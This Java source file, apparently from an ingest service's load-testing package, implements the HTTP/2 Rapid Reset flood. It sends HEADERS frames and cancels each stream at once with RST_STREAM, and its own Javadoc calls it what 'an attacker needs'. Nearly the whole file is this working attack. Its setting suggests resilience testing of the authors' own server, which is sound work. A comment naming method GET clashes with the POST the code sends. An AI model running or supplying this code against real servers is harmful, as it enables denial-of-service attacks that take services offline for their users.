package io.freshet.ingest.load;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/** As much of HTTP/2 (RFC 9113, and RFC 7541 for the header block) as an attacker needs. */
final class Http2 {
  private static final int HEADERS = 1;
  private static final int RESET = 3;
  private static final int SETTINGS = 4;
  private static final int END_OF_HEADERS = 4;
  private static final int CANCEL = 8;

  /** Literals without indexing: method GET and scheme http from the static table, then a path. */
  private static final byte[] BLOCK = block();

  private Http2() {}

  /** Opens streams and cancels each at once; what the server said, to the connection's end. */
  static String rapidReset(Raw connection, int streams) throws IOException {
    connection.send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").send(frame(SETTINGS, 0, 0, new byte[0]));
    try {
      for (int i = 0; i < streams; i++) {
        int stream = 2 * i + 1;
        connection.send(frame(HEADERS, END_OF_HEADERS, stream, BLOCK));
        connection.send(frame(RESET, 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array()));
      }
    } catch (IOException cutOff) {
      return "<reset>";
    }
    return connection.answer(Duration.ofSeconds(10));
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .put((byte) (payload.length >> 16))
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  private static byte[] block() {
    var bytes = new ByteArrayOutputStream();
    bytes.write(0x83); // :method POST
    bytes.write(0x86); // :scheme http
    literal(bytes, 4, "/ingest"); // :path
    literal(bytes, 1, "x"); // :authority
    return bytes.toByteArray();
  }

  private static void literal(ByteArrayOutputStream bytes, int name, String value) {
    bytes.write(name);
    bytes.write(value.length());
    bytes.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
  }
}
